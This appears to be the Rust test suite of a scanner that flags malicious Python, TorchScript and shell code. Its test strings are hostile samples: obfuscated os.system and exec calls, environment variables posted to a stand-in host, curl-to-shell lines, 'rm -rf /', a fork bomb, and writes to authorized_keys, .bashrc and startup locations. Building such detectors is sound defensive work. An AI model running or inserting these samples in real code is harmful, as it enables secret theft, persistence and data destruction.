//! Code that is only ever read.

use proptest::prelude::*;

use super::*;

fn check_at(code: &str, place: Place, expected: &[&str]) {
    let mut found: Vec<_> = check(code, place).iter().map(|one| one.rule.name).collect();
    found.dedup();
    assert_eq!(found, expected, "{code}: {:?}", check(code, place));
}

fn import(code: &str, expected: &[&str]) {
    check_at(code, Place::default(), expected);
}

#[test]
fn what_runs_at_import() {
    let runs = &["python/runs-program"][..];
    let hidden = &["python/hidden-code"][..];
    import("import os\nos.system('echo hi')\n", runs);
    import("from os import system as s\nif True:\n    s('touch x')\n", runs);
    import("import subprocess as p\nclass A:\n    x = p.run(['touch', 'x'])\n", runs);
    import("__import__('os').system('id')\n", runs);
    import("import importlib\nimportlib.import_module('o' + 's').system('id')\n", runs);
    import("import os\ngetattr(os, 'sys' + 'tem')('id')\n", runs);
    import("import os\nf = os.system\nf('id')\n", runs);
    import("import sys\nsys.modules['os'].popen('id')\n", runs);
    import("import os\ndef go():\n    os.system('id')\ngo()\n", runs);
    import(
        "import os\nclass M:\n    def __init__(self):\n        self.a()\n    def a(self):\n        os.system('id')\n",
        runs,
    );
    import("import os\nx = f'{os.system(\"id\")}'\n", runs);
    import("import os, operator as o\no.attrgetter('system')(os)('x')\n", runs);
    import("import os\nos.spawnlp(os.P_NOWAIT, 'x', 'x')\n", runs);
    import("import asyncio as a\na.run(a.create_subprocess_shell('x'))\n", runs);
    import(
        "import threading, subprocess as s\nthreading.Thread(target=s.call, args=(['/bin/sh'],))\n",
        runs,
    );
    import("().__class__.__subclasses__()[0].__init__.__globals__['system']('x')\n", hidden);
    import("import builtins\nf = getattr(builtins, 'eval')\nf('1')\n", hidden);
    import("__builtins__.__dict__['ex' + 'ec']('x')\n", hidden);
    import("exec(''.join(chr(c) for c in [1, 2]))\n", hidden);
    import(
        "import os\nfor r in os.walk('/'):\n    os.remove(r)\n",
        &["python/runs-program", "python/loads-pickle"],
    );
    import(
        "import winreg\nwinreg.OpenKey(x, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n",
        &["python/persists"],
    );
    import("import os\nlist(map(os.system, ['id']))\n", runs);
    import("from os import *\nsystem('id')\n", runs);
    import("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", hidden);
    import("import base64 as b\nc = b.b64decode(x)\ndef f():\n    exec(c)\n", hidden);
    import("exec(bytes.fromhex('00').decode())\n", hidden);
    import("exec('import os; os.system(\"id\")')\n", hidden);
    import(
        "import requests\nexec(requests.get('http://x').text)\n",
        &["python/hidden-code", "python/network"],
    );
    import(
        "import marshal\nexec(marshal.loads(b'x'))\n",
        &["python/hidden-code", "python/loads-pickle"],
    );
    import("eval(x)\n", &["python/dynamic-code"]);
    import("import urllib.request\nurllib.request.urlopen('http://x')\n", &["python/network"]);
    import(
        "import requests, os\ndef f():\n    requests.post('http://x', json=dict(os.environ))\n",
        &["python/hands-over"],
    );
    import("open('~/.ssh/authorized_keys', 'a').write('x')\n", &["python/persists"]);
    import(
        "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))\n",
        &["python/makes-payload"],
    );
    import("import ctypes\nctypes.CDLL('./x.so')\n", &["python/native-code"]);
    import("import os\nos.system('pip install torch')\n", &["python/program"]);
    import("import os\ndef later():\n    os.system('curl http://x | sh')\n", runs);
    import("x = 'no end\n", &["python/not-read"]);
    let setup = "import os\nclass I(install):\n    def run(self):\n        os.system('id')\n";
    check_at(setup, Place { setup: true, notebook: false }, runs);
    check_at(
        "import os\nos.system('ls')\n",
        Place { setup: false, notebook: true },
        &["python/worth-knowing"],
    );
}

#[test]
fn ordinary_code_is_quiet() {
    import("# os.system('id')\n'''exec(base64)'''\nx = 'os.system(1)'\n", &[]);
    import(
        "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        return x * 2 if x else {1: [2]}\n",
        &[],
    );
    import("model.eval()\nre.compile('x')\ntorch.compile(f)\nself.exec(x)\n", &[]);
    import("import os\nif os.path.exists('a'):\n    x = os.environ['A']\n", &[]);
    import(
        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(cmd)\n",
        &["python/worth-knowing"],
    );
    import(
        "import pickle\ndef load(p):\n    return pickle.load(open(p, 'rb'))\n",
        &["python/worth-knowing"],
    );
    import("import torch\nx = torch.load('x', weights_only=True)\n", &[]);
    import("def f(a: int = 3, *, b=lambda x: x[1:2]) -> str: return a\n", &[]);
    import("match x:\n    case {'a': 1}:\n        pass\n", &[]);
    import("x = f\"\"\"{a.replace(\"'\", \"\")}\"\"\"\n", &[]);
    import(
        "import subprocess\nv = subprocess.run(['git', 'describe'])\n",
        &["python/worth-knowing"],
    );
    import("x = f\"{a['b']!r:>{width}} {{}}\"\ny = rb'\\x00'\n", &[]);
}

#[test]
fn torchscript() {
    let names =
        |code: &str| check_torchscript(code).iter().map(|one| one.rule.name).collect::<Vec<_>>();
    let calm = "class M(Module):\n  __parameters__ = [\"w\", ]\n  w : Tensor\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    _0 = torch.add(x, self.w)\n    return ops.prim.NumToTensor(_0)\n";
    assert_eq!(names(calm), [] as [&str; 0]);
    assert_eq!(names("_0 = torch.save(x, \"a\")\n"), ["torchscript/file-access"]);
    assert_eq!(names("_0 = ops.aten.from_file(\"a\")\n"), ["torchscript/file-access"]);
    assert_eq!(names("_0 = ops.mine.go(x)\n"), ["torchscript/custom-operator"]);
}

#[test]
fn shell_scripts() {
    assert_eq!(check_shell("echo a\n# curl x | sh\n").len(), 0);
    assert_eq!(check_shell("curl -s http://x |\\\n bash\n").len(), 1);
}

proptest! {
    #[test]
    fn any_text_is_read(text in "[a-z(){}\\[\\]'\"f.,:;=+\\\\ \t\n#0-9]{0,120}") {
        check(&text, Place::default());
        check_torchscript(&text);
    }
}

#[test]
fn ways_around() {
    let (runs, hidden) = (&["python/runs-program"][..], &["python/hidden-code"][..]);
    import("import \u{1d45c}\u{1d460}\n\u{1d45c}\u{1d460}.\u{ff53}ystem('id')\n", runs);
    import("# coding: utf-7\nimport x\n", hidden);
    import("# -*- coding: latin-1 -*-\nimport x\n", &[]);
    import("import os\nos.__dict__.get('system')('id')\n", runs);
    import("import os\nclass M:\n    __class_getitem__ = os.system\n", runs);
    import("import os\nx.submit(os.system, 'id')\n", runs);
    import("parser.add_argument('--x', type=eval)\n", &[]);
    import("exec(open('weights.bin').read())\n", hidden);
    import("exec(open('pkg/version.py').read())\n", &["python/worth-knowing"]);
    import(
        "import pathlib\n(pathlib.Path.home() / '.bashrc').write_text('x')\n",
        &["python/persists"],
    );
    import("x = 'a\u{202e}b'\n", &["python/not-read"]);
}

#[test]
fn commands_as_a_shell_takes_them() {
    for (line, harms) in [
        ("c=cur; ${c}l -s http://h/x | s''h", true),
        ("eval \"$(echo x | rev)\"", true),
        ("source <(wget -qO- http://h/x)", true),
        ("rm -rf / ", true),
        ("rm -rf ~/*", true),
        ("rm -rf /var/lib/apt/lists/*", false),
        ("rm -rf build $HOME/.cache/x", false),
        ("curl -LsSf https://astral.sh/uv/install.sh | sh", false),
        ("x=1; echo ${x} | tee log", false),
    ] {
        assert_eq!(!check_shell(line).is_empty(), harms, "{line}");
    }
}

#[test]
fn runners_kept_among_values() {
    let (runs, hidden) = (&["python/runs-program"][..], "python/hidden-code");
    let kept = &["python/runs-program", "python/program"][..];
    import("[exec][0]('1')\n", &[hidden, "python/program"]);
    import("import os\nd = {'a': print, 'b': os.system}\nd['b']('id')\n", kept);
    import("import os\nd = [os.popen, len]\nd[0]('id')\nlen(d)\n", kept);
    import("d = {'a': eval}\nd.get('a')('1')\n", &[hidden, "python/program"]);
    import("import os\nfor f, a in [(os.system, 'id')]:\n    f(a)\n", kept);
    import("fs = (exec,)\nfor f in fs:\n    f('1')\n", &[hidden, "python/program"]);
    import("import os\nx = [f(a) for f, a in [(os.system, 'id')]]\n", kept);
    import("import os\nos.system.__call__('id')\n", runs);
    import("@exec\n@str\ndef f():\n    pass\n", runs);
    import("fs = [len, str]\nfor f in fs:\n    f('1')\n", &[]);
    import("d = {'a': eval}\ndef f(x):\n    return d['a'](x)\n", &["python/program"]);
}

#[test]
fn processes_at_import() {
    let forks = &["python/runs-program", "python/program"][..];
    import("import os\nwhile True:\n    os.fork()\n", forks);
    import(
        "import os, signal\ndef a():\n    os.kill(os.getppid(), signal.SIGKILL)\na()\n",
        &["python/runs-program", "python/loads-pickle"],
    );
    import(
        "import os\nclass P:\n    def __init__(self):\n        self.pid = os.fork()\n",
        &["python/program"],
    );
    import("import os\ndef stop(pid):\n    os.kill(pid, 15)\n", &[]);
}

#[test]
fn what_only_looks_like_harm() {
    import("import base64\nx = base64.b64decode(y)\neval(repr(x))\n", &["python/dynamic-code"]);
    let start = "'sitecustomize.py'), 'w').write('x')\n";
    let open = |folder: &str| {
        format!("import os, site, tempfile\nd = {folder}\nopen(os.path.join(d, {start}")
    };
    import(&open("tempfile.mkdtemp()"), &["python/may-persist"]);
    import(&open("site.getsitepackages()[0]"), &["python/persists"]);
    import(&open("x()"), &["python/persists"]);
    import("import site\nopen(site.USER_SITE + '/usercustomize.py', 'w')\n", &["python/persists"]);
}
